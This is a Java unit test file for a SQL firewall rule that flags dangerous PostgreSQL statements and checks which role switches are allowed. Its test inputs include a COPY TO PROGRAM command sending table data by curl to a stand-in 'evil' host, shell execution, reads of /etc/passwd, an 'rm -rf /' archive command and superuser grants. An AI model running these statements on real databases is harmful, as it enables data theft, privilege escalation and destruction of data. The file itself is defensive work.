package io.nlguard.guard.rules.firewall;

import static io.nlguard.guard.rules.firewall.Firewall.assertFires;
import static io.nlguard.guard.rules.firewall.Firewall.assertQuiet;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import io.nlguard.guard.rules.Finding;

class DangerousStatementRuleTest {

    private static final String RULE = "dangerous-statement";

    @Test
    void copyToProgramIsFoundWithoutATree() {
        String sql = "COPY users TO PROGRAM 'curl -d @- http://evil'";
        assertFalse(Firewall.parses(sql));
        Finding finding = assertFires(RULE, sql, "Command(COPY users TO PROGRAM 'curl -d @- htt...) at 1:1");
        assertEquals(-1, finding.nodeId());
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '"', value = {
            "COPY (SELECT * FROM users) TO '/tmp/users.csv'     | writes to a file on the database server",
            "COPY t FROM '/etc/passwd'                          | reads from a file on the database server",
            "copy t from program 'id'                           | runs a shell command",
            "LOAD '/tmp/evil.so'                                | Command(LOAD '/tmp/evil.so') at 1:1",
            "DO $$ BEGIN PERFORM pg_sleep(1); END $$            | is a DO block",
            "DO LANGUAGE plpgsql $x$ BEGIN NULL; END $x$        | Command(DO LANGUAGE plpgsql $x$ BEGIN NULL; E...) at 1:1",
            "CREATE FUNCTION f() RETURNS text AS $$ import os $$ LANGUAGE plpython3u | untrusted language plpython3u",
            "CREATE OR REPLACE FUNCTION f() RETURNS int AS 'evil.so', 'f' LANGUAGE C | untrusted language c",
            "CREATE TRUSTED LANGUAGE plsh HANDLER h              | is CREATE LANGUAGE"})
    void unparsedOrParsedDangerousStatements(String sql, String expected) {
        assertFires(RULE, sql.strip(), expected.strip());
    }

    @Test
    void parsedCommandsAreReportedOnTheirNode() {
        Finding alter = assertFires(RULE, "ALTER SYSTEM SET archive_command = 'rm -rf /'", "Alter(ALTER SYSTEM) at 1:1");
        assertEquals(0, alter.nodeId());
        assertFires(RULE, "SET ROLE postgres", "Command(SET ROLE) at 1:1");
        assertFires(RULE, "SET LOCAL ROLE postgres", "is SET ROLE");
        assertFires(RULE, "SET SESSION AUTHORIZATION postgres", "is SET SESSION AUTHORIZATION");
        assertFires(RULE, "CREATE EXTENSION IF NOT EXISTS dblink", "Create(CREATE EXTENSION) at 1:1");
        assertFires(RULE, "ALTER ROLE bob WITH SUPERUSER", "gives a role SUPERUSER");
        assertFires(RULE, "GRANT pg_read_server_files TO bob", "grants pg_read_server_files");
    }

    @Test
    void aCommandAfterAnotherStatementIsCitedAtItsOwnStart() {
        assertFires(RULE, "SELECT 1; SET ROLE postgres", "Command(SET ROLE) at 1:11");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "COPY t FROM STDIN WITH (FORMAT csv)",
            "COPY (SELECT * FROM t) TO STDOUT",
            "RESET ROLE",
            "SET ROLE NONE",
            "SET SESSION AUTHORIZATION DEFAULT",
            "SET search_path TO public",
            "SET SESSION statement_timeout = 5000",
            "CREATE FUNCTION add(a int, b int) RETURNS int AS 'SELECT a + b' LANGUAGE sql",
            "CREATE FUNCTION f() RETURNS int AS $$ BEGIN RETURN 1; END $$ LANGUAGE plpgsql",
            "SELECT * FROM copy_jobs WHERE program = 'x'",
            "CREATE ROLE reader NOSUPERUSER LOGIN",
            "GRANT SELECT ON t TO reader"})
    void ordinaryStatementsPass(String sql) {
        assertQuiet(RULE, sql);
    }

    /** Flyway restores every connection with SET ROLE '<current user>': returning to oneself changes nobody. */
    @ParameterizedTest
    @ValueSource(strings = {
            "SET ROLE 'app_owner'",
            "SET ROLE app_owner",
            "set role APP_OWNER",
            "SET ROLE \"app_owner\"",
            "SET SESSION ROLE app_owner",
            "SET LOCAL ROLE 'app_owner'",
            "SET role = 'app_owner'",
            "SET role TO app_owner",
            "SET ROLE 'none'",
            "SET role TO DEFAULT",
            "SET SESSION AUTHORIZATION 'app_owner'",
            "SET session_authorization = app_owner"})
    void returningToTheLoginRolePasses(String sql) {
        assertEquals(List.of(), Firewall.checkAs("app_owner", RULE, sql), sql);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "SET ROLE postgres",
            "SET ROLE 'postgres'",
            "SET ROLE \"App_Owner\"",             // quoted: another role than app_owner
            "SET ROLE 'APP_OWNER'",
            "SET ROLE E'app_owner'",               // escapes: not read, not trusted
            "SET ROLE app_owner_admin",
            "SET ROLE app_owner postgres",         // anything after the name: not a plain return
            "SET role = postgres",
            "SET LOCAL ROLE postgres",
            "SET SESSION AUTHORIZATION postgres",
            "SET session_authorization TO 'postgres'"})
    void anyOtherRoleStaysBlocked(String sql) {
        List<Finding> findings = Firewall.checkAs("app_owner", RULE, sql);
        assertEquals(1, findings.size(), sql);
        assertTrue(findings.get(0).message().contains("only a return to the login role app_owner (or NONE) is allowed"),
                findings.get(0)::message);
    }

    @Test
    void aQuotedLoginRoleMustBeNamedAsTheServerSpellsIt() {
        assertEquals(List.of(), Firewall.checkAs("App Owner", RULE, "SET ROLE \"App Owner\""));
        assertEquals(List.of(), Firewall.checkAs("O'Brien", RULE, "SET ROLE 'O''Brien'"));
        assertEquals(1, Firewall.checkAs("App", RULE, "SET ROLE App").size()); // folds to app
    }

    @Test
    void withoutAKnownLoginEveryRoleIsBlocked() {
        assertFires(RULE, "SET ROLE 'app_owner'", "is SET ROLE: it changes the role the session acts as.");
        assertQuiet(RULE, "SET ROLE NONE");
    }

    @Test
    void returningToTheLoginAfterAnotherStatementIsJudgedPerStatement() {
        assertEquals(List.of(), Firewall.checkAs("app_owner", RULE, "SET ROLE app_owner; RESET ROLE"));
        assertEquals(1, Firewall.checkAs("app_owner", RULE, "SET ROLE app_owner; SET ROLE postgres").size());
    }
}
